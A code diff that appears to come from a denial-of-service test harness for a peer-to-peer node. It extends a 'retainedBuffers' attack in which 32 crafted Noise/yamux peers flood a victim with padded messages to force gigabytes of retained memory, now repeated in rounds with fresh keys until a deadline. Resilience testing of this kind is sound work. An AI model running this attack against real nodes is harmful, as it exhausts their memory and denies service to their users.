@@ -246,41 +246,51 @@ async function holdUntilDeadline(ctx: AttackContext, all: HandMadePeer[]): Promi
  * Noise messages (65,519 bytes of plaintext each) that each carry one useful byte of that
  * message and, in the rest, a Data frame for the reset substream (dropped by the victim). A
  * victim that kept each useful byte as a view of its decrypted message would keep 64 KiB alive
- * per byte: about 63 MiB per peer, 2 GiB for the 32. The peers are then held until the deadline.
+ * per byte: about 63 MiB per peer, 2 GiB for the 32. The peers are held until the victim has
+ * closed them all; then 32 new peers (new keys) attack again, round after round, until the
+ * deadline, as a persistent attacker would (and so that the good peer's connects are sampled
+ * over the whole run, not only the 2-3 s one round lasts).
  */
 export const retainedBuffers: Attack = async (ctx) => {
   const PEERS = 32;
   const MESSAGES = 1_000;
-  const all = await peers(ctx, PEERS, 4);
   const padding = MAX_PLAINTEXT - 2 * HEADER_LENGTH - 1;
   const pad = Buffer.alloc(padding);
-  try {
-    await Promise.all(
-      all.map(async (p) => {
-        const msg = p.nextStreamId();
-        const dead = p.nextStreamId();
-        const opening = Buffer.concat([optimisticProposal(MESSAGING_PROTOCOL), messageHeader(1024 * 1024)]);
-        p.secure.write(
-          Buffer.concat([
-            yamuxFrame(FrameType.WindowUpdate, Flag.SYN, msg, 0),
-            yamuxFrame(FrameType.Data, 0, msg, opening.length, opening),
-            yamuxFrame(FrameType.WindowUpdate, Flag.SYN, dead, 0),
-            yamuxFrame(FrameType.WindowUpdate, Flag.RST, dead, 0),
-          ]),
-        );
-        await new Promise((r) => setImmediate(r)); // that write leaves as a Noise message of its own
-        for (let i = 0; i < MESSAGES && left(ctx) > 0 && !p.secure.destroyed; i++) {
-          const message = Buffer.concat([yamuxFrame(FrameType.Data, 0, msg, 1, Uint8Array.of(i & 0xff)), yamuxFrame(FrameType.Data, 0, dead, padding), pad]);
-          if (!p.secure.write(message)) await drained(p.secure, left(ctx));
-          count(ctx, 'usefulBytes');
-        }
-      }),
-    );
-    ctx.stats.sentAt = Math.round(performance.now());
-    await holdUntilDeadline(ctx, all);
-  } finally {
-    for (const p of all) p.destroy();
+  let closed = 0;
+  for (let round = 0; left(ctx) > 0; round++) {
+    const all = await peers(ctx, PEERS, 4, round * PEERS);
+    if (all.length === 0) break; // no upgrade succeeded: counted as upgradeErrors
+    count(ctx, 'rounds');
+    try {
+      await Promise.all(
+        all.map(async (p) => {
+          const msg = p.nextStreamId();
+          const dead = p.nextStreamId();
+          const opening = Buffer.concat([optimisticProposal(MESSAGING_PROTOCOL), messageHeader(1024 * 1024)]);
+          p.secure.write(
+            Buffer.concat([
+              yamuxFrame(FrameType.WindowUpdate, Flag.SYN, msg, 0),
+              yamuxFrame(FrameType.Data, 0, msg, opening.length, opening),
+              yamuxFrame(FrameType.WindowUpdate, Flag.SYN, dead, 0),
+              yamuxFrame(FrameType.WindowUpdate, Flag.RST, dead, 0),
+            ]),
+          );
+          await new Promise((r) => setImmediate(r)); // that write leaves as a Noise message of its own
+          for (let i = 0; i < MESSAGES && left(ctx) > 0 && !p.secure.destroyed; i++) {
+            const message = Buffer.concat([yamuxFrame(FrameType.Data, 0, msg, 1, Uint8Array.of(i & 0xff)), yamuxFrame(FrameType.Data, 0, dead, padding), pad]);
+            if (!p.secure.write(message)) await drained(p.secure, left(ctx));
+            count(ctx, 'usefulBytes');
+          }
+        }),
+      );
+      if (round === 0) ctx.stats.sentAt = Math.round(performance.now());
+      await holdUntilDeadline(ctx, all);
+      closed += ctx.stats.peersClosedByVictim ?? 0;
+    } finally {
+      for (const p of all) p.destroy();
+    }
   }
+  ctx.stats.peersClosedByVictim = closed;
 };
 
 /**
